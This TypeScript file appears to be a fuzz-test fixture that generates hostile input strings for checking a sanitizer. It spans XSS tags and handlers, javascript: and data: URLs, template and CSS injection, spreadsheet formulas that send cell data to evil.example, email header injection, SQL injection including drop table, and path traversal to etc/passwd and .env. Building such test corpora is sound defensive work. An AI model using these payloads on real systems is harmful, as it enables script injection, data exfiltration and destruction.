/** Hostile texts, the same in every run: families of attacks, multiplied by encodings. */

/** Called by any payload that manages to run. */
export const CANARY = '__hit';

const CALL = [`${CANARY}(1)`, `window['${CANARY}'](1)`, `${CANARY}\`1\``, `top.${CANARY}(1)`, `eval('${CANARY}(1)')`];
const OUTSIDE = 'https://evil.example';

const cross = (first: readonly string[], second: readonly string[], join: (a: string, b: string) => string): string[] =>
  first.flatMap((a) => second.map((b) => join(a, b)));

/** Sequences that break out of a text's context: elements, attributes, comments, styles, scripts, CDATA, templates. */
const BREAKERS = [
  '',
  '">',
  "'>",
  '`>',
  '" ',
  "' ",
  '-->',
  '--!>',
  ']]>',
  '*/',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</SCRIPT >',
  '</noscript>',
  '</template>',
  '</select>',
  '</svg>',
  '</option>',
  '\\">',
  '&quot;>',
  '%22%3E',
  '\u2028">',
  '\u0000">',
  '}}',
  '${',
  '<!--',
  '<![CDATA[',
];
const LIVE = CALL.flatMap((call) => [
  `<script>${call}</script>`,
  `<script >${call}</script\t>`,
  `<ScRiPt>${call}</sCrIpT>`,
  `<img src=x onerror=${call}>`,
  `<img/src=x/onerror="${call}">`,
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${call}"><text y=9>x</text></a></svg>`,
  `<math><mi xlink:href="javascript:${call}">x</mi></math>`,
  `<body onload=${call}>`,
  `<details open ontoggle=${call}><summary>x</summary></details>`,
  `<input autofocus onfocus=${call}>`,
  `<iframe srcdoc="<script>parent.${CANARY}(1)</script>"></iframe>`,
  `<iframe src="javascript:parent.${call}"></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="data:text/html,<script>${call}</script>">`,
  `<video><source onerror=${call}></video>`,
  `<form action="javascript:${call}"><button formaction="javascript:${call}">x</button></form>`,
  `<style>@keyframes k{}*{animation:k}</style><p onanimationstart=${call}>x</p>`,
]);
const ALIEN = [
  `<base href="${OUTSIDE}/">`,
  `<meta http-equiv=refresh content="0;url=${OUTSIDE}">`,
  `<link rel=stylesheet href="${OUTSIDE}/x.css">`,
  `<link rel=dns-prefetch href="//evil.example">`,
  `<img src="${OUTSIDE}/x.png">`,
  `<script src="${OUTSIDE}/x.js"></script>`,
  `<form action="${OUTSIDE}"><input name=password type=password></form>`,
  `<div style="position:fixed;inset:0;background:url(${OUTSIDE}/x)">x</div>`,
  `<plaintext>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL[0]}>">`,
  `<table><td background="${OUTSIDE}/x.png">`,
  `<portal src="${OUTSIDE}"></portal>`,
];

const EVENTS =
  'abort animationstart auxclick beforetoggle blur change click contextmenu cut dblclick drag error focus focusin input keydown load message mouseover paste pointerenter pointerrawupdate scroll scrollend submit toggle transitionend wheel'.split(
    ' ',
  );
const HANDLERS = cross(
  [`" on{}="`, `' on{}='`, ' on{}=', '" ON{} = "', '"/on{}="', '"\non{}="'],
  EVENTS,
  (shape, event) => `x${shape.replace('{}', event)}${CALL[0]}`,
);

const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  '\u0001javascript:',
  ' javascript:',
  'javascript&colon;',
  '&#106;avascript:',
  '&#x6A;avascript:',
  'javascript\u0000:',
  'javascript://%0a',
  'vbscript:',
  'data:text/html,',
  'data:text/html;base64,',
  'DATA:image/svg+xml,',
  'blob:',
  'filesystem:',
  'file:///',
  'view-source:',
  'feed:javascript:',
  '//evil.example/',
  '\\\\evil.example\\',
  '/\\evil.example/',
  'https:evil.example',
  'http://a@evil.example/',
  'mailto:a@b.example?bcc=c@evil.example&body=',
  'tel:+1;ext=',
  'jar:',
  'about:',
  'x:',
];
const LINKS = cross(SCHEMES, [CALL[0]!, `<script>${CALL[0]}</script>`, `"onclick="${CALL[0]}`], (scheme, tail) => scheme + tail).flatMap(
  (url) => [url, `[clique](${url})`, `![foto](${url})`, `[**a**](<${url}>)`, `[a](https://a.example/${url} "${CALL[0]}")`],
);

const STYLES = [
  `;}</style><script>${CALL[0]}</script>`,
  'expression(__hit(1))',
  `url(javascript:${CALL[0]})`,
  `;background:url(${OUTSIDE}/css)`,
  '\\3c/style\\3e',
  '*{display:none}',
  `@import '${OUTSIDE}/a.css';`,
  `"}body{background:url(${OUTSIDE}/b)}`,
  '-moz-binding:url(x)',
  'behavior:url(x)',
  '/*',
  '\\"',
  'a{color:red',
  'var(--x,url(x))',
].flatMap((css) => [css, `'${css}`, `"${css}`, `" style="${css}`]);

// biome-ignore-start lint/suspicious/noTemplateCurlyInString: a template of somebody else
const TEMPLATES = [
  '{{constructor.constructor("__hit(1)")()}}',
  '${__hit(1)}',
  '#{__hit(1)}',
  '<%= __hit(1) %>',
  '{%raw%}',
  '{{fa_00000000}}',
  '{{fa_zzzzzzzz',
  '{__hit(1)}',
  '*{__hit(1)}',
  '{{7*7}}',
  '{@html __hit(1)}',
  '<!--#exec cmd="id"-->',
  '<?php __hit(1) ?>',
  '`+__hit(1)+`',
  "'+__hit(1)+'",
  '"+__hit(1)+"',
  '\u2028__hit(1)\u2029',
  '</script><!--',
  '<!--<script>',
  '\\u003c/script>',
  '{"@context":"x"}',
  '"}</script>',
  '[[__hit]]',
  '__html',
  '$$typeof',
  '$L1',
  '$@0',
  '$F1',
].flatMap((text) => [text, `${text}${text}`, `"${text}"`]);
// biome-ignore-end lint/suspicious/noTemplateCurlyInString: as above

const INVISIBLE = [
  '\u202e',
  '\u202d',
  '\u2066',
  '\u2069',
  '\u200b',
  '\u200d',
  '\u200e',
  '\ufeff',
  '\u00ad',
  '\u2028',
  '\u2029',
  '\u0085',
  '\u0000',
  '\u0008',
  '\u001b',
  '\u007f',
  '\ufffe',
  '\uffff',
  '\ud800',
  '\udfff',
  '\udc00\ud800',
  '\u0300'.repeat(60),
  '\u{e0001}',
  '\u{1f468}\u200d\u{1f469}',
];
const LETTERS = cross(
  INVISIBLE,
  [`a{}b`, '{}', `<{}script>${CALL[0]}</script>`, `java{}script:${CALL[0]}`, '"{}onclick="x', '{}=1+1'],
  (sign, shape) => shape.replace('{}', sign),
);

const ENCODED = [
  '%3Cscript%3E__hit(1)%3C/script%3E',
  '%253Cscript%253E',
  '&lt;script&gt;__hit(1)&lt;/script&gt;',
  '&#60;script&#62;__hit(1)',
  '&#x3c;img src=x onerror=__hit(1)&#x3e;',
  '\\x3cscript\\x3e',
  '\\u003cscript\\u003e__hit(1)',
  '+ADw-script+AD4-__hit(1)',
  '\u00bcscript\u00be__hit(1)',
  '\uff1cscript\uff1e__hit(1)',
  '&amp;lt;b&amp;gt;',
  '&NewLine;',
  '&nbsp',
  '&#0;',
  '&#xD800;',
  '&#1114112;',
  '\u0131MG SRC=x',
  '<\u017fcript>',
].flatMap((text) => [text, `"${text}`, `${text}\n${text}`]);

const FORMULAS = cross(
  ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '\uff1d', '\uff0b', '\uff0d', '\uff20', '"=', ';=', ',=', '|='],
  ['1+1', `cmd|'/C calc'!A0`, `HYPERLINK("${OUTSIDE}","x")`, 'SUM(A1:A9)', `WEBSERVICE("${OUTSIDE}/"&A1)`],
  (sign, body) => sign + body,
).flatMap((text) => [text, `Bar${text.replace(/^/, ';')}`]);
const MAILS = cross(
  ['\r\n', '\n', '\r', '%0d%0a', '\\r\\n', '\u0085', '\u2028'],
  [
    'Bcc: a@evil.example',
    'Content-Type: text/html',
    '\r\n<b>x</b>',
    'To: a@evil.example, b@evil.example',
    '.\r\nMAIL FROM:<a@evil.example>',
  ],
  (end, line) => `Ana${end}${line}`,
);
const ICAL = [
  '\r\nEND:VEVENT\r\nBEGIN:VALARM',
  '\nATTACH:https://evil.example/x',
  'a;b,c\\n',
  '\rURL:javascript:__hit(1)',
  '\u0085ORGANIZER:x',
];
const SQL = cross(
  ["'", '"', "\\'", "';", '")', "%' ", '$$'],
  [
    '--',
    ' or 1=1--',
    '; drop table sites;--',
    ' union select null--',
    '||pg_sleep(5)||',
    "; select set_config('role','supabase_admin',false);--",
  ],
  (quote, rest) => quote + rest,
);
const PATHS = cross(
  ['../', '..\\', '..%2f', '%2e%2e/', '....//', '/', 'C:\\', '\\\\?\\', 'a/../../', './.'],
  ['etc/passwd', '.env', 'index.html', 'con', '%00.html', 'a\u0000b'],
  (way, name) => way.repeat(2) + name,
);
const NAMES = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'then',
  'valueOf',
  '__defineGetter__',
  'toJSON',
  'length',
  'null',
  'undefined',
  'NaN',
  '[object Object]',
  'true',
  '-0',
  '1e309',
  '$ref',
  'id',
  'nodeName',
].flatMap((name) => [name, `{"${name}":{"x":1}}`, `[${name}]`, `x[${name}][y]`]);
const LONG = ['a', '\u05d0', '\u{1f600}', '<', '"', '&', '\n', '_', '*', '[', '`', '#', '- ', '> ', '](', '**', '![', '((', '|', '\\'].map(
  (sign) => sign.repeat(400),
);
const MARKS = ['**', '_', '`', '```', '[a](', '![a](', '## ', '- ', '1. ', '> ', '{{', '|'].flatMap((mark) => [
  `${mark}<script>${CALL[0]}</script>${mark}`,
  `${mark}"onclick="${CALL[0]}${mark}`,
  `\n\n${mark}<img src=x onerror=${CALL[0]}>\n\n`,
  `${mark}\n${mark}\n${mark}`,
]);

export const FAMILIES: Readonly<Record<string, readonly string[]>> = {
  markup: cross(BREAKERS, [...LIVE.slice(0, 20), ...ALIEN], (end, live) => end + live),
  calls: LIVE.slice(20),
  handlers: HANDLERS,
  links: LINKS,
  styles: STYLES,
  templates: TEMPLATES,
  letters: LETTERS,
  encoded: ENCODED,
  formulas: FORMULAS,
  mails: [...MAILS, ...ICAL],
  sql: SQL,
  paths: PATHS,
  names: NAMES,
  long: LONG,
  marks: MARKS,
};

export const PAYLOADS: readonly string[] = [...new Set(Object.values(FAMILIES).flat())];
